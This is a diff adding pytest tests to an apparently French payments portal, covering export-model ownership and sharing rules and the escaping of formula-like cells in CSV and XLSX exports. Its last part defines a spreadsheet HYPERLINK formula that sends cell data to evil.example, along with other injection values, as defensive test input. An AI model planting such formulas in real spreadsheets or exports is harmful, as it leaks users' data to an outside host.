@@ -14,6 +14,7 @@ from decimal import Decimal
 
 import httpx
 import openpyxl
+import pytest
 
 from tests.conftest import run_jobs
 from tests.conventions.conftest import post
@@ -219,15 +220,138 @@ class TestModels:
         download = await export(client, money, {"format": "csv", **choice})
         header = download.content.decode("utf-8-sig").splitlines()[0]
         assert header == "Date de versement;Payé (€);SIRET du bénéficiaire"
-        # Only whoever saved it (or a pilot) removes it.
+        # Only whoever saved it removes it (to anyone else, it is not even there).
         worker = make_client()
         await login(worker, money.cast.world.tenant.association_worker.email)
         delete = f"{money.base}/exports/modeles/{model_id}/suppression"
-        assert (await post(worker, delete, {})).status_code == 403
+        assert (await post(worker, delete, {})).status_code == 404
         assert (await post(client, delete, {})).status_code == 303
         after = (await client.get(f"{money.base}/exports")).text
         assert "Modèle « Tableau CGLLS » supprimé." in after
         assert ">Tableau CGLLS</a>" not in after and ">Tableau CGLLS</option>" not in after
+
+
+def model_id_of(page: str, name: str) -> str | None:
+    found = re.search(rf'<option value="([0-9a-f-]{{36}})"[^>]*>{re.escape(name)}</option>', page)
+    return found.group(1) if found else None
+
+
+async def save_model(
+    client: httpx.AsyncClient, money: Money, name: str, *keys: str, **extra: str
+) -> httpx.Response:
+    return await post(
+        client,
+        f"{money.base}/exports",
+        {"action": "model", "model_name": name, "format": "csv", **columns(*keys), **extra},
+    )
+
+
+async def model_columns(money: Money, name: str) -> list[str]:
+    from portal.payments.tables import ExportModel
+
+    [row] = await ExportModel.select(ExportModel.columns).where(ExportModel.name == name).output(
+        load_json=True
+    )
+    return [c["key"] for c in row["columns"]]
+
+
+async def listed(client: httpx.AsyncClient, money: Money, name: str) -> str | None:
+    return model_id_of((await client.get(f"{money.base}/exports")).text, name)
+
+
+class TestModelOwnership:
+    async def test_a_name_taken_by_someone_else_asks_for_another_name(
+        self,
+        client: httpx.AsyncClient,
+        make_client,  # type: ignore[no-untyped-def]
+        money: Money,
+    ) -> None:
+        await login(client, money.finance.email)
+        assert (await save_model(client, money, "Tableau CGLLS", "siret")).status_code == 303
+        pilot = make_client()
+        await login(pilot, money.cast.world.tenant.pilot.email)
+        taken = await save_model(pilot, money, "Tableau CGLLS", "label", replace="on")
+        assert taken.status_code == 400
+        page = text_of(taken.text)
+        assert "Le nom « Tableau CGLLS » est déjà pris par un autre modèle" in page
+        field = re.search(r'<div class="field field--error">.*?</div>', taken.text, re.S)
+        assert field and 'for="f-model-name"' in field.group(0) and "déjà pris" in field.group(0)
+        assert 'value="Tableau CGLLS"' in taken.text  # what was typed, to change it
+        assert await model_columns(money, "Tableau CGLLS") == ["siret"]  # nothing replaced
+
+    async def test_the_owner_replaces_their_model_once_they_confirm(
+        self, client: httpx.AsyncClient, money: Money
+    ) -> None:
+        await login(client, money.finance.email)
+        assert (await save_model(client, money, "Mensuel", "siret")).status_code == 303
+        again = await save_model(client, money, "Mensuel", "label", "amount_due")
+        assert again.status_code == 400
+        assert "Vous avez déjà un modèle « Mensuel »" in text_of(again.text)
+        assert 'name="replace"' in again.text
+        assert await model_columns(money, "Mensuel") == ["siret"]
+        confirmed = await save_model(client, money, "Mensuel", "label", "amount_due", replace="on")
+        assert confirmed.status_code == 303
+        assert await model_columns(money, "Mensuel") == ["label", "amount_due"]
+
+    async def test_only_a_pilot_shares_a_model_with_the_consortium(
+        self,
+        client: httpx.AsyncClient,
+        make_client,  # type: ignore[no-untyped-def]
+        money: Money,
+    ) -> None:
+        tenant = money.cast.world.tenant
+        await login(client, money.finance.email)
+        assert (await save_model(client, money, "Suivi finances", "siret")).status_code == 303
+        model_id = model_id_of((await client.get(f"{money.base}/exports")).text, "Suivi finances")
+        assert model_id
+        base = f"{money.base}/exports/modeles/{model_id}"
+        worker, pilot = make_client(), make_client()
+        await login(worker, tenant.association_worker.email)
+        await login(pilot, tenant.pilot.email)
+        # Private: its owner's, and the pilot's to see so as to publish it.
+        assert await listed(worker, money, "Suivi finances") is None
+        assert (await post(worker, f"{base}/suppression", {})).status_code == 404
+        assert (await post(client, f"{base}/partage", {"shared": "on"})).status_code == 403
+        assert (await post(worker, f"{base}/partage", {"shared": "on"})).status_code == 403
+        shared = await post(pilot, f"{base}/partage", {"shared": "on"})
+        assert shared.status_code == 303
+        page = (await worker.get(f"{money.base}/exports")).text
+        assert model_id_of(page, "Suivi finances") == model_id
+        assert "partagé avec le consortium" in text_of(page)
+        # Shared, it still belongs to whoever saved it.
+        assert (await post(worker, f"{base}/suppression", {})).status_code == 403
+        assert (await post(pilot, f"{base}/suppression", {})).status_code == 403
+        taken = await save_model(worker, money, "Suivi finances", "label", replace="on")
+        assert taken.status_code == 400 and "déjà pris" in text_of(taken.text)
+        assert (await post(pilot, f"{base}/partage", {})).status_code == 303
+        assert await listed(worker, money, "Suivi finances") is None
+        assert (await post(client, f"{base}/suppression", {})).status_code == 303
+
+
+    async def test_a_name_taken_during_the_save_asks_for_another_name(
+        self,
+        client: httpx.AsyncClient,
+        make_client,  # type: ignore[no-untyped-def]
+        money: Money,
+        monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        """Two people saving the same new name at once: the second one's check saw nothing, the
+        database's unique index refuses the insert; the answer is the same French message."""
+        from portal.payments import repository
+
+        await login(client, money.finance.email)
+        assert (await save_model(client, money, "Trimestriel", "siret")).status_code == 303
+
+        async def nothing_yet(*args: object) -> None:
+            return None
+
+        monkeypatch.setattr(repository, "export_model_named", nothing_yet)
+        pilot = make_client()
+        await login(pilot, money.cast.world.tenant.pilot.email)
+        raced = await save_model(pilot, money, "Trimestriel", "label")
+        assert raced.status_code == 400
+        assert "Le nom « Trimestriel » est déjà pris" in text_of(raced.text)
+        assert await model_columns(money, "Trimestriel") == ["siret"]
 
 
 class TestHousekeeping:
@@ -322,3 +446,75 @@ class TestStorageDown:
         ready = await client.get(page_url)
         assert "Prêt" in ready.text and "Nouvelle tentative" not in ready.text
         assert (await client.get(f"{page_url}/fichier")).status_code == 200
+
+
+LEAK = '=HYPERLINK("https://evil.example/?d="&A2,"Détails")'
+
+
+async def booby_trapped(client: httpx.AsyncClient, money: Money) -> None:
+    """Text a careless or hostile member typed, that a spreadsheet would run as formulas."""
+    await login(client, money.finance.email)
+    schedule = await create_schedule(
+        client,
+        money,
+        schedule_form(
+            money.partnership,
+            "repayment",
+            beneficiary=money.association,
+            payer=money.lessor,
+            total="1 234,56",
+            label=LEAK,
+            lines=[
+                {
+                    "label": "@SUM(1+1)",
+                    "amount": "1 234,56",
+                    "expected_on": "01/06/2026",
+                    "trigger": "date",
+                }
+            ],
+        ),
+    )
+    [line] = await lines_of(money, schedule)
+    response = await pay(client, money, line["id"], "1 000", "15/06/2026", "+33-VIR-1")
+    assert response.status_code == 303, response.text[-2000:]
+
+
+FORMULA_COLUMNS = columns(
+    "schedule", "label", "reference", "amount_paid", "remaining", "paid_on", schedule="-2+3"
+)
+
+
+class TestFormulas:
+    async def test_xlsx_cells_that_look_like_formulas_are_text(
+        self, client: httpx.AsyncClient, money: Money
+    ) -> None:
+        await booby_trapped(client, money)
+        download = await export(client, money, {"format": "xlsx", **FORMULA_COLUMNS})
+        sheet = openpyxl.load_workbook(io.BytesIO(download.content)).active
+        assert sheet is not None
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        header, row = list(sheet.iter_rows(max_row=2))
+        assert header[0].value == "-2+3" and header[0].data_type == "s"
+        assert row[0].value == LEAK and row[0].data_type == "s" and row[0].quotePrefix
+        assert row[1].value == "@SUM(1+1)" and row[2].value == "+33-VIR-1"
+        # Real numbers and dates stay numbers and dates.
+        assert row[3].data_type == "n" and row[3].value == 1000
+        assert row[4].data_type == "n" and row[4].value == 234.56
+        assert isinstance(row[5].value, dt.datetime)
+
+    async def test_csv_cells_that_look_like_formulas_start_with_a_quote(
+        self, client: httpx.AsyncClient, money: Money
+    ) -> None:
+        await booby_trapped(client, money)
+        download = await export(client, money, {"format": "csv", **FORMULA_COLUMNS})
+        rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig")), delimiter=";"))
+        assert rows[0][0] == "'-2+3"
+        assert rows[1] == [
+            f"'{LEAK}",
+            "'@SUM(1+1)",
+            "'+33-VIR-1",
+            "1000,00",
+            "234,56",
+            "15/06/2026",
+        ]
